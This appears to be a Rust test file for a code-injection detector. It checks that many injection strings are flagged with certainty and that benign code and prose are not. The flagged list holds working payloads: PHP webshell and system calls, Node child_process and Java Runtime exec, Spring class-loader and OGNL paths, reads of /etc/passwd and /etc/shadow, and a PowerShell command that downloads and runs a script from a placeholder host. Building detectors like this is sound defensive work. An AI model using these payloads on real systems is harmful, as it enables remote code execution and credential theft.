use super::java::property_path;
use super::php::indirect_call;
use super::*;

fn confidence(value: &str) -> Option<Confidence> {
    let found = [code_call, indirect_call, property_path].into_iter().filter_map(|find| find(value.as_bytes()));
    found.map(|found| found.confidence).max()
}

#[test]
fn code_that_reaches_the_system_is_certain() {
    for value in [
        ";system('id')",
        ";system(\"cat /etc/passwd\");//",
        "';phpinfo();//",
        "${@print(md5(1))}",
        "echo md5('x');",
        "eval(base64_decode('cGhwaW5mbygpOw=='))",
        "<?php system($_GET['c']); ?>",
        "<?=`id`?>",
        "assert($_POST['x'])",
        "call_user_func('system','id')",
        "(system)('id')",
        "('sys'.'tem')('id')",
        "system(whoami)",
        "SYSTEM('id')",
        "PhpInfo();",
        "(sys.(te).m)(whoami)",
        "require('child_process').exec('id')",
        "require(\"child_process\").execSync('ls').toString()",
        "global.process.mainModule.require('child_process')",
        "process.binding('spawn_sync')",
        "this.constructor.constructor('return process')()",
        "res.end(require('fs').readFileSync('/etc/passwd'))",
        "res.end(require('fs').readdirSync('.').toString())",
        "';process.exit();//",
        "while(1){}",
        "';while(true){};'",
        "eval(String.fromCharCode(97,108))",
        "T(java.lang.Runtime).getRuntime().exec('id')",
        "new java.lang.ProcessBuilder({'id'}).start()",
        "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
        "new javax.script.ScriptEngineManager().getEngineByName('js')",
        "class.module.classLoader.resources.context.parent.pipeline.first.pattern",
        "class['module']['classLoader']",
        "__import__('os').system('id')",
        "os.system('cat /etc/shadow')",
        "subprocess.check_output(['id'])",
        "eval(compile('x','y','exec'))",
        "exec('import os')",
        "open('/etc/passwd').read()",
        "Kernel.exit(1)",
        "$ENV{'PATH'}",
        "Process.kill(9, 0)",
        "';sys.exit(1)#",
        "%x{uname -a}",
        "qx/id/",
        "qx{cat /etc/shadow}",
        "@{[system \"uname -a\"]}",
        "${\\ system 'id'}",
        "#{exec 'id'}",
        "Open3.capture2e('id')",
        "subprocess.call(['id'])",
        "subprocess.Popen('id', shell=True)",
        "Kernel.send(:system, 'id')",
        "method(:exec).call('id')",
        "Object.class_eval(\"system('id')\")",
        "File.read('/etc/passwd')",
        "IO.popen('id').read",
        "IEX (New-Object Net.WebClient).DownloadString('http://x.example/a.ps1')",
        "file_get_contents('/etc/passwd')",
    ] {
        assert_eq!(confidence(value), Some(Certain), "{value}");
    }
}

#[test]
fn source_code_and_prose_are_not() {
    for value in [
        "const fs = require('fs');",
        "const { exec } = require('child_process');",
        "import os, sys",
        "import subprocess",
        "the system (id 5) is down",
        "call phpinfo() to see the version",
        "const m = /x/.exec('ls')",
        "re.exec(line)",
        "eval(code) is evil",
        "print('hello')",
        "while (i < 10) { i += 1 }",
        "for (;;) { work(); }",
        "use std::process::Command; Command::new(\"ls\")",
        "class Loader { }",
        "first class. module one",
        "public class Main { public static void main(String[] a) {} }",
        "process.env.HOME",
        "global.process.env.NODE_ENV",
        "open('report.txt').read()",
        "call sys.exit(1) at the end of the script to stop",
        "use Process.kill(:TERM, pid) to stop the worker and Kernel.exit to leave",
        "send(:name, 'x')",
        "File.read('config.yml')",
        "a %x{beef} literal",
        "qx/price/",
        "#{name}",
        "in Perl $ENV{PATH} is the path",
        "#{system}",
        "the exit (left) is open",
        "assert(x == 1)",
        "spawn(move || work())",
        "(function () { return 1; })()",
        "#include <stdio.h>",
        "issue #12 (see #x)",
        "ann@example.org and bob@java.example",
        "system(s) and exec(utive) roles",
        "<?xml version=\"1.0\"?>",
        "(see above) (id 5) and ('x')('y')",
        "$('#a')('ls')",
        "function (x) { return new Function(x) }",
    ] {
        assert!(confidence(value) < Some(Certain), "{value} {:?}", code_call(value.as_bytes()));
    }
}
